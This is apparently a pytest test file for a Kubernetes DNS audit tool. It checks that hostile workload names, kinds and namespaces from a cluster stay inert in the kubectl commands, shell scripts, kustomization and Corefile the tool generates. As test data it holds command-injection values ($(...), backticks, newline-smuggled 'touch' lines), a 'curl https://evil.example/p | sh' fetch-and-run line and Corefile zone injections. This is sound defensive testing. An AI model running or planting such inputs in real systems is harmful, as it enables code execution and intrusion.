"""Names from a cluster are data, never code (issue #10 item 1): hostile kinds and names through the patches,
the bundle's scripts and the ``.sh`` downloads, run with bash against a recording kubectl — nothing else
executes — and the kustomization and Corefile stay inert."""

from __future__ import annotations

import sys
import uuid
from pathlib import Path

import pytest
import yaml
from django.urls import reverse

from dnsaudit.core import patches
from dnsaudit.core.audit import audit_workload, audit_workloads, cluster_remediation, render_bundle
from dnsaudit.core.model import Container, Workload
from tests.audit.checks import recorded, recording_bin, run_script
from tests.audit.helpers import POD_SPEC_PATHS, kubectl, pool, run, seed_ctx


def hostile(mark: Path) -> list[str]:
    m = str(mark)
    return [
        f"x\ntouch {m}\n#",
        f"x\ncurl https://evil.example/p | sh\ntouch {m}\n#",
        f"$(touch {m})",
        f"`touch {m}`",
        f"a'; touch {m}; echo '",
        f'a"; touch {m}; echo "',
        f"=cmd|touch {m}",
        f"web\r\ntouch {m}",
    ]


def _workloads(mark: Path) -> list[Workload]:
    out = []
    names = hostile(mark)
    kinds = ["Deployment", "Pod", "CronJob", "Job"]
    for i, name in enumerate(names):
        kind = kinds[i % len(kinds)]
        out.append(
            Workload(
                namespace="shop" if i % 2 else name,  # hostile namespaces too
                kind=kind,
                name=name,
                containers=(Container("app", "alpine:3.16"),),
                api_version={"Pod": "v1", "Job": "batch/v1", "CronJob": "batch/v1"}.get(kind, "apps/v1"),
                pod_spec_path=POD_SPEC_PATHS[kind],
            )
        )
    # A hostile kind (an ownerReference's kind is not checked by the API server). $HOME is the scripts'
    # folder in run_script: the path stays short enough for the stored kind column (63, the longest valid
    # kind; the inventory refuses this one, so only a row forged in the database can carry it).
    out.append(
        Workload(
            namespace="shop",
            kind=f"Deployment\ntouch $HOME/{mark.name}\n#",
            name="odd",
            containers=(Container("app", "alpine:3.16"),),
            api_version="apps/v1",
            pod_spec_path=("spec", "template", "spec"),
        )
    )
    return out


@pytest.fixture
def mark(tmp_path) -> Path:
    return tmp_path / f"pwned-{uuid.uuid4().hex[:8]}"


def _run(text: str, tmp_path: Path, mark: Path, name: str) -> list[dict]:
    script = tmp_path / f"{name}.sh"
    script.write_text(text)
    record = tmp_path / f"{name}.record"
    bin_dir = recording_bin(tmp_path / "bin", sys.executable)
    run_script(script, tmp_path, bin_dir, record, DNSAUDIT_NODE_ROOT=str(tmp_path / "node"))
    assert not mark.exists(), f"{name} executed a command from a cluster string"
    return recorded(record)


def test_hostile_names_in_rendered_commands_and_scripts_execute_nothing(tmp_path, mark):
    ws = _workloads(mark)
    ctx = seed_ctx(kyverno_installed=True, coredns={"variant": "k3s"})
    audited = [audit_workload(w, ctx) for w in ws]
    assert sum(1 for a in audited if a.remedies) >= len(ws) - 2
    for i, (w, a) in enumerate(zip(ws, audited, strict=True)):
        for r in a.remedies:
            if r.kubectl:
                calls = _run("#!/bin/sh\n" + r.kubectl + "\n", tmp_path, mark, f"cmd-{i}-{r.kind}")
                assert calls, r.kubectl
            script = patches.remedy_script(r.to_dict())
            if script:
                calls = _run(script, tmp_path, mark, f"dl-{i}-{r.kind}")
                if r.kind == "dnsConfig":
                    # The hostile name reaches kubectl as one argument, unchanged.
                    assert any(w.name in c["argv"] for c in calls)
    files = render_bundle(f"c\ntouch {mark}", audit_workloads(ws, ctx), ctx)
    root = tmp_path / "bundle"
    for path, text in files.items():
        assert ".." not in path.split("/") and "\n" not in path and "$" not in path and "`" not in path
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    bin_dir = recording_bin(tmp_path / "bin", sys.executable)
    (tmp_path / "node/var/lib/kubelet").mkdir(parents=True)
    (tmp_path / "node/var/lib/kubelet/config.yaml").write_text("kind: KubeletConfiguration\n")
    seen: set[str] = set()
    for path in sorted(p for p in files if p.endswith(".sh")):
        record = tmp_path / f"bundle-{path}.record"
        run_script(root / path, root, bin_dir, record, DNSAUDIT_NODE_ROOT=str(tmp_path / "node"))
        assert not mark.exists(), path
        for call in recorded(record):
            seen.update(call["argv"])
    fixed = {a.report["name"] for a in audited if any(r.kind == "dnsConfig" and r.usable for r in a.remedies)}
    # (a hostile namespace makes the dnsConfig fix invalid: no patch for those, rightly)
    assert len(fixed) >= 4 and fixed <= seen  # the hostile names reached kubectl, as data
    # The kustomization is data: its targets are the names, byte for byte, and it renders inert.
    kust = yaml.safe_load(files["patches/kustomization.yaml"])
    assert {e["target"]["name"] for e in kust["patches"]} == fixed
    for e in kust["patches"]:
        assert (root / "patches" / e["path"]).is_file()
    run([kubectl(), "kustomize", str(root / "patches")])
    assert not mark.exists()
    # The README table keeps each name on its row.
    table = files["README.md"].split("## Workloads", 1)[1].split("## Files", 1)[0]
    assert all(line.startswith("|") for line in table.strip().splitlines()[:-1] if line)


@pytest.mark.django_db
def test_sh_downloads_of_hostile_rows_execute_nothing(client, tmp_path, mark):
    from django.contrib.auth.models import Group, User

    from tests.web import factories

    user = User.objects.create_user("op")
    user.groups.add(Group.objects.get_or_create(name="operator")[0])
    client.force_login(user)
    cluster = factories.make_cluster("hostile")
    scan = factories.make_scan(cluster)
    ctx = seed_ctx(kyverno_installed=True, coredns={"variant": "k3s"})
    for w in _workloads(mark):
        row = factories.make_audited_workload(scan, "", audited=(w, audit_workload(w, ctx)))
        for i, rem in enumerate(row.detail["remediations"]):
            resp = client.get(reverse("clusters:workload_kubectl", args=[cluster.name, row.pk, i]))
            if resp.status_code == 404:
                assert not patches.remedy_script(rem)
                continue
            assert resp.status_code == 200
            _run(resp.content.decode(), tmp_path, mark, f"dl-{row.pk}-{i}")


def test_comment_text_is_one_plain_line():
    for text in ("x\ntouch /tmp/p\n#", "a\rb", "$(x) `y` 'z' \"w\"", "\u2028evil"):
        out = patches.shell_comment(text)
        assert "\n" not in out and "\r" not in out and "\u2028" not in out
        assert set(out) <= set(
            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 ._,:;/@+=()[]-?"
        )


def test_corefile_zones_must_be_dns_names(tmp_path):
    for bad in ('evil"{', "a}b", "x y", "zone\nforward . 6.6.6.6", "", "-bad.example", "a..b", "x" * 64):
        assert not patches.is_dns_zone(bad)
        with pytest.raises(ValueError):
            patches.coredns_template(bad)
    for good in ("openstacklocal", "corp.example.", "c.my-project.internal", "_tcp.example"):
        assert patches.is_dns_zone(good)
    node = 'nameserver 192.168.0.2\nsearch openstacklocal evil"}{\n'
    ctx = seed_ctx(
        pool=pool(node),
        coredns={"variant": "kubeadm", "corefile": ".:53 {\n    forward . /etc/resolv.conf\n}\n"},
    )
    audits = audit_workloads(
        [Workload("shop", "Deployment", "web", containers=(Container("a", "alpine:3.16"),))], ctx
    )
    cr = cluster_remediation(audits, ctx)
    art = next(a for a in cr["artifacts"] if a["kind"] == "coredns")
    assert art["zones"] == ["openstacklocal"] and art["refused_zones"] == ['evil"}{']
    for text in art["files"].values():
        assert "evil" not in text
    corefile = art["files"]["coredns/Corefile"]
    assert corefile.count("{") == corefile.count("}")
    for r in audits[0].remedies:
        for text in r.extra_files.values():
            assert "evil" not in text
